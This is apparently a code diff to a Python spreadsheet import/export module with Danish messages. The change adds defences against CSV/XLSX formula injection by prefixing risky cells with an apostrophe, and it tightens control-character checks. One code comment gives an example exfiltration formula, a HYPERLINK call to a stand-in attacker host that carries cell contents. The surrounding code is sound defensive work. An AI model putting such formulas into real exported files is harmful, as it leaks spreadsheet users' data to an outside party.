@@ -2,6 +2,9 @@
 the header and data rows, cell values as text, a header mapped to canonical column names, per-row
 errors as the user sees them, and the rejects file.
 
+Writing: every CSV or XLSX the platform hands out goes through `safe_cell` / `safe_row` /
+`safe_csv_writer` below, which neutralise cells a spreadsheet would run as formulas (issue 13).
+
 CSV: ';', ',' or tab separated (detected from the header line), UTF-8 with or without BOM, Excel's
 "Unicode text" (UTF-16) or Windows-1252 as older Danish Excel saves it. XLSX: the first worksheet.
 """
@@ -26,6 +29,8 @@ YES = {"ja", "j", "yes", "y", "true", "sand", "1", "x"}
 NO = {"nej", "n", "no", "false", "falsk", "0", ""}
 
 _INTLIKE = re.compile(r"(\d+)[,.]0+")
+# C0 control characters other than tab, LF and CR, and DEL (as core.middleware refuses them in forms).
+_CONTROL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]")
 
 
 @dataclass(frozen=True)
@@ -88,8 +93,14 @@ def read_csv(data: bytes) -> tuple[list[Any], Iterator[list[Any]]]:
     except UnicodeDecodeError:
         # Older Danish Excel saves "CSV (semikolonsepareret)" in Windows-1252.
         text = data.decode("cp1252", errors="replace")
-    if "\x00" in text:
-        raise FileUnreadable(_("Filen er hverken CSV eller XLSX."))
+    control = _CONTROL.search(text)
+    if control is not None:
+        # A NUL byte or another control character: binary data, or a text file damaged on the way.
+        line = text.count("\n", 0, control.start()) + 1
+        raise FileUnreadable(
+            _("Filen indeholder et kontroltegn (fx et NUL-tegn) i linje %(line)d, som ikke kan importeres. "
+              "Er det den rigtige fil? Gem den igen som CSV (UTF-8) eller XLSX.") % {"line": line}
+        )
     first_line = text.split("\n", 1)[0]
     delimiter = max((";", ",", "\t"), key=first_line.count) if first_line.strip() else ";"
     if first_line.count(delimiter) == 0:
@@ -230,6 +241,44 @@ def extra_cells_error(rownum: int, raw: list[Any], width: int) -> RowError | Non
     return None
 
 
+# --------------------------------------------------------------------------------------------- writing
+
+# Spreadsheets (Excel, LibreOffice, Google Sheets) run a cell that starts with one of these as a formula,
+# e.g. =HYPERLINK("http://evil.example/?x="&A1;"klik"). A leading apostrophe makes it plain text.
+FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
+_PLAIN_NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)*")
+
+
+def safe_cell(value: Any) -> Any:
+    """The value, with a text cell that a spreadsheet would run as a formula prefixed by an apostrophe.
+    Numbers stay numbers, and so does text that is only a signed number ("-1.200,50")."""
+    if isinstance(value, str) and value[:1] in FORMULA_PREFIXES and not _PLAIN_NUMBER.fullmatch(value):
+        return "'" + value
+    return value
+
+
+def safe_row(values: Iterable[Any]) -> list[Any]:
+    """`safe_cell` for each cell of a row (CSV rows and openpyxl `ws.append` alike)."""
+    return [safe_cell(v) for v in values]
+
+
+class _SafeWriter:
+    def __init__(self, writer: Any) -> None:
+        self._writer = writer
+
+    def writerow(self, row: Iterable[Any]) -> Any:
+        return self._writer.writerow(safe_row(row))
+
+    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
+        for row in rows:
+            self.writerow(row)
+
+
+def safe_csv_writer(f: Any, **kwargs: Any) -> _SafeWriter:
+    """`csv.writer(f, **kwargs)` whose rows pass through `safe_row`."""
+    return _SafeWriter(csv.writer(f, **kwargs))
+
+
 # --------------------------------------------------------------------------------------------- rejects
 
 
@@ -239,7 +288,7 @@ def write_rejects(
     """The rejected rows with their original columns and a 'fejl' column (CSV, ';', UTF-8 with BOM)."""
 
     def write(f: IO[str]) -> None:
-        writer = csv.writer(f, delimiter=";", lineterminator="\r\n")
+        writer = safe_csv_writer(f, delimiter=";", lineterminator="\r\n")
         writer.writerow([text(h).replace("\ufeff", "") for h in header] + [REJECTS_ERROR_COLUMN])
         for raw, errors in rejects:
             cells = [text(v) for v in raw] + [""] * (len(header) - len(raw))
